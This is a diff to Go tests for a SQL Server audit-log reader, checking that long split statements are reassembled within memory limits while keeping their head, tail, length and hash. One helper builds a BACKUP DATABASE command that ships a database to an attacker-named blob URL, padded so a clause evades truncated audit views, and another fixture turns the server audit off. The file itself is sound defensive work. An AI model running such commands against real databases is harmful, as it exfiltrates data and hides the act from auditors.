@@ -2,6 +2,7 @@ package audit_test
 
 import (
 	"bytes"
+	"crypto/sha256"
 	"errors"
 	"fmt"
 	"io"
@@ -199,7 +200,8 @@ func TestReassembly(t *testing.T) {
 			write: func(w *xeltest.Writer) error {
 				return w.WriteAudit(batch(51, s1, huge[:30000]))
 			},
-			want: []splitCheck{{huge[:10000], 8, true, false}},
+			// Over the limit: the first half and the last quarter.
+			want: []splitCheck{{huge[:5000] + huge[30000-2500:30000], 8, true, false}},
 		},
 		{
 			name:  "MaxPendingRecords evicts the oldest",
@@ -512,6 +514,118 @@ func TestReaderTruncatedFile(t *testing.T) {
 	}
 }
 
+// paddedBackup is the evasion of issue 9: a BACKUP whose WITH COPY_ONLY
+// follows a comment of n characters.
+func paddedBackup(n int) string {
+	return "BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' /*" +
+		strings.Repeat("x", n) + "*/ WITH COPY_ONLY"
+}
+
+// TestReassemblyPadded: a 600,000-character statement, split by SQL
+// Server into 4,000-character records, comes back whole with the default
+// limits.
+func TestReassemblyPadded(t *testing.T) {
+	st := paddedBackup(600_000)
+	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
+		return w.WriteAudit(batch(51, t0, st))
+	})
+	recs, _, err := readAll(t, data, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	parts := (len(st) + 3999) / 4000
+	checkRecords(t, recs, []splitCheck{{st, parts, false, false}})
+	if !recs[0].Elided.IsZero() || recs[0].NumParts() != parts {
+		t.Errorf("elided %+v, %d parts; want nothing dropped, %d parts", recs[0].Elided, recs[0].NumParts(), parts)
+	}
+}
+
+// TestReassemblyBounded: a 10 MB statement split into 2,600 records keeps
+// its head and tail within MaxRecordBytes, with the whole text's length
+// and SHA-256, at most MaxParts parts, and the reader never holds more
+// than the limits.
+func TestReassemblyBounded(t *testing.T) {
+	const limit = 1 << 20
+	st := paddedBackup(10 << 20)
+	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
+		if err := w.WriteAudit(batch(51, t0, st)); err != nil {
+			return err
+		}
+		return w.WriteAudit(batch(52, t0.Add(3*time.Minute), "ALTER SERVER AUDIT [a] WITH (STATE = OFF)"))
+	})
+	xr, err := xel.NewReader(bytes.NewReader(data), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ar := audit.NewReader(xr, "f.xel", &audit.ReaderOptions{MaxRecordBytes: limit, MaxParts: 100})
+	var recs []*audit.Record
+	maxHeld := int64(0)
+	for {
+		rec, err := ar.Next()
+		maxHeld = max(maxHeld, ar.PendingBytes())
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs = append(recs, rec)
+	}
+	if len(recs) != 2 {
+		t.Fatalf("%d records, want 2", len(recs))
+	}
+	r := recs[0]
+	head, tail := st[:limit/2], st[len(st)-limit/4:]
+	if r.Statement != head+tail {
+		t.Errorf("statement: %d bytes, want the first %d and the last %d", len(r.Statement), len(head), len(tail))
+	}
+	parts := (len(st) + 3999) / 4000
+	want := audit.Elision{At: len(head), Dropped: int64(len(st) - len(head) - len(tail)), Units: int64(len(st)), SHA256: sha256.Sum256([]byte(st))}
+	if r.Elided != want || !r.StatementTruncated {
+		t.Errorf("elided %+v truncated %v, want %+v", r.Elided, r.StatementTruncated, want)
+	}
+	if len(r.Parts) != 100 || r.NumParts() != parts || r.PartCount != parts {
+		t.Errorf("%d parts kept, %d counted; want 100 and %d", len(r.Parts), r.NumParts(), parts)
+	}
+	// Head + tail + the parts that kept text (whole up to the limit) +
+	// the kept parts themselves.
+	if bound := int64(limit/2+limit/4+4*4000+limit) + 100*1024; maxHeld > bound {
+		t.Errorf("reader held %d bytes of pending text, want at most %d", maxHeld, bound)
+	}
+	if !strings.HasSuffix(recs[1].Statement, "(STATE = OFF)") {
+		t.Errorf("record after the padded one: %q", recs[1].Statement)
+	}
+}
+
+// TestBoundUnsplit: a record written in one piece (no sequence numbers,
+// the file's writer chooses) is bounded the same way.
+func TestBoundUnsplit(t *testing.T) {
+	const limit = 64 << 10
+	st := paddedBackup(200_000)
+	e := batch(51, t0, st)
+	e.AdditionalInformation = strings.Repeat("<i/>", 20_000)
+	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
+		return w.WriteAuditParts(0, e) // one record, not split
+	})
+	recs, _, err := readAll(t, data, &audit.ReaderOptions{MaxRecordBytes: limit})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 1 {
+		t.Fatalf("%d records", len(recs))
+	}
+	r := recs[0]
+	if r.Statement != st[:limit/2]+st[len(st)-limit/4:] || r.AdditionalInformation != e.AdditionalInformation[:limit/4] {
+		t.Errorf("statement %d bytes, additional_information %d bytes", len(r.Statement), len(r.AdditionalInformation))
+	}
+	if r.Elided.Units != int64(len(st)) || r.Elided.SHA256 != sha256.Sum256([]byte(st)) || !r.StatementTruncated {
+		t.Errorf("elided %+v, want units %d sha %x, truncated %v", r.Elided, len(st), sha256.Sum256([]byte(st)), r.StatementTruncated)
+	}
+	if !strings.HasSuffix(r.Statement, "WITH COPY_ONLY") {
+		t.Errorf("tail lost")
+	}
+}
+
 // A record continued without end holds every part it collects. Each part
 // counts against MaxPendingBytes whole — its Record and all its columns,
 // not only the statement piece — so a file of endless continuations with
@@ -549,5 +663,58 @@ func TestPendingPartsBounded(t *testing.T) {
 	}
 	if total != parts || len(recs) < 2 {
 		t.Errorf("%d records of %d parts in all, want the %d parts over several records", len(recs), total, parts)
+	}
+}
+
+// TestPendingPartsBoundedOverLimit: once a split record is over
+// MaxRecordBytes its parts keep no text, but each kept part still holds
+// its Record and its other columns, and still counts against
+// MaxPendingBytes (with the head and tail text the record holds). Counting
+// only the text of such parts (a fixed cost per part) let one record of
+// 200 parts hold 3.2 MB of object_name under a 1 MiB limit.
+func TestPendingPartsBoundedOverLimit(t *testing.T) {
+	const parts, limit, recLimit = 200, 1 << 20, 64 << 10
+	big := strings.Repeat("o", 16000)
+	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
+		for i := 1; i <= parts; i++ {
+			a := batch(51, time.Date(2025, 6, 7, 8, 9, 10, 0, time.UTC), stmtOf("p", 4000))
+			a.SequenceNumber, a.ObjectName = int32(i), big
+			if err := w.WriteAuditParts(0, a); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	recs, _, err := readAll(t, data, &audit.ReaderOptions{MaxPendingBytes: limit, MaxRecordBytes: recLimit, FlushIncomplete: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	total := 0
+	for i, r := range recs {
+		n := max(r.NumParts(), 1)
+		total += n
+		if held := n * len(big); held > limit {
+			t.Errorf("record %d held %d parts (%d bytes of object_name alone), over MaxPendingBytes %d", i, n, held, limit)
+		}
+		if len(r.Statement) > recLimit || !r.StatementTruncated {
+			t.Errorf("record %d: statement %d bytes, truncated %v; want at most %d, truncated", i, len(r.Statement), r.StatementTruncated, recLimit)
+		}
+	}
+	if total != parts || len(recs) < 2 {
+		t.Errorf("%d records of %d parts in all, want the %d parts over several records", len(recs), total, parts)
+	}
+
+	// The record still waiting at the end of a file being written: what
+	// it holds counts every kept part whole and its head and tail.
+	_, ar, err := readAll(t, data, &audit.ReaderOptions{MaxRecordBytes: recLimit, MaxPendingBytes: 64 << 20})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pend := ar.PendingRecords()
+	if len(pend) != 1 || len(pend[0].Parts) != parts {
+		t.Fatalf("%d records pending, want 1 of %d parts", len(pend), parts)
+	}
+	if want := int64(parts*len(big) + len(pend[0].Statement)); ar.PendingBytes() < want {
+		t.Errorf("PendingBytes %d, want at least %d (each part's object_name and the text held)", ar.PendingBytes(), want)
 	}
 }
